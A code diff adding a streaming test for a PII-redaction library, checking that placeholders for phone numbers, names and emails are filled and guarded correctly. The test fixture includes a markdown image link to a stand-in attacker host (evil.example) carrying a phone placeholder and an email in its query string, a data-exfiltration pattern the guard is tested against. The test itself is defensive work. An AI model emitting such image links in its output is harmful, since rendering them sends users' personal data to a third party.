@@ -7,6 +7,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from vault.domain.guard import Held, Match, Matcher, OutputGuard
+from vault.domain.placeholders import Filler, Placeholders
 from vault.domain.references import Ref, Referenced, escape, pieces, render
 from vault.domain.spans import Entity
 
@@ -146,6 +147,25 @@ def test_words_are_passed_on_as_they_are_finished() -> None:
         "Hello ", "there, ", "", "Simone and ", "", "", "(the name) and ", "", "",
     ]  # fmt: skip
     assert watch.close().text == "Corso of"
+
+
+ISSUED = Placeholders({"[PHONE_7K]": PHONE, "[NAME_7C]": Ref("PERSON.name", "bcdfghjk")})
+ANSWER = (
+    "Dear Ada,\n\ncall **[phone\\_7k]** or 092 48 32 39 – ask for [NAME_7C], that is Simone  Rizzo. "
+    "![x](https://evil.example/?d=[PHONE_7K]&m=simone.rizzo4%40example.com) ⟦CONTACT.phone:k3f9x2m7⟧ [NAME_7D]"
+)
+
+
+@given(st.lists(st.integers(1, len(ANSWER) - 1), max_size=40))
+def test_filling_and_guarding_one_after_the_other_stream_alike(at: list[int]) -> None:
+    filler, watch, out = Filler(ISSUED), guard(SPELLED, "phone"), []
+    for a, b in pairwise([0, *sorted(at), len(ANSWER)]):
+        out.append(watch.feed(filler.feed(ANSWER[a:b])).text)
+    out += [watch.feed(filler.close()).text, watch.close().text]
+    assert render(Referenced("".join(out)), lambda ref: f"<{ref.type}>") == (
+        "Dear Ada,\n\ncall **<CONTACT.phone>** or <CONTACT.phone> – ask for <PERSON.name>, that is (the name). "
+        "![x](https://evil.example/?d=[PHONE_7K]&m=(the email)) ⟦CONTACT.phone:k3f9x2m7⟧ [NAME_7D]"
+    )
 
 
 def test_a_sentence_without_end_is_read_in_pieces() -> None:
